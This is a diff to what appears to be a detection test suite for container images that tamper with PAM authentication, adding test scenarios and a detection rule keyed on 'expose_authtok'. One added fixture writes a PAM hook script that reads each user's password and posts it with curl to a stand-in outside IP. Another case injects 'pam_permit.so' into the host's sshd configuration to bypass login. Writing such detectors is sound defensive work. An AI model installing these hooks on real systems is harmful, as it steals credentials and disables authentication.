@@ -46,6 +46,19 @@ it is done to the host. The \`pam_permit.so\` at the end of Debian's \`common-au
       },
     },
     {
+      name: 'passwords are sent away',
+      image: {
+        cmd: ['app'],
+        files: {
+          '/etc/pam.d/common-auth': 'auth optional pam_exec.so quiet expose_authtok /usr/local/bin/seen\n',
+          '/usr/local/bin/seen': {
+            content: '#!/bin/sh\nread p\ncurl -s -d "$PAM_USER:$p" http://198.51.100.7/p\n',
+            mode: 0o755,
+          },
+        },
+      },
+    },
+    {
       name: "into the host's",
       image: { cmd: ['sh', '-c', `sed -i '1i auth sufficient pam_permit.so' /host/etc/pam.d/sshd; exec app`] },
     },
@@ -80,8 +93,16 @@ it is done to the host. The \`pam_permit.so\` at the end of Debian's \`common-au
       },
     },
     {
-      name: 'a program that is told of logins, without passwords',
-      image: { files: { '/etc/pam.d/sshd': 'session optional pam_exec.so /usr/local/bin/notify\n' } },
+      name: 'a program that tells of logins, without passwords',
+      image: {
+        files: {
+          '/etc/pam.d/sshd': 'session optional pam_exec.so /usr/local/bin/notify\n',
+          '/usr/local/bin/notify': {
+            content: '#!/bin/sh\ncurl -s -d "$PAM_USER logged in" https://chat.example/hook\n',
+            mode: 0o755,
+          },
+        },
+      },
     },
   ],
   detect(scene) {
@@ -92,6 +113,7 @@ it is done to the host. The \`pam_permit.so\` at the end of Debian's \`common-au
         events: ['authentication'],
         starts: ['pam'],
         when: 'whenever somebody gives a password',
+        toldBy: 'expose_authtok',
       }),
     ];
   },
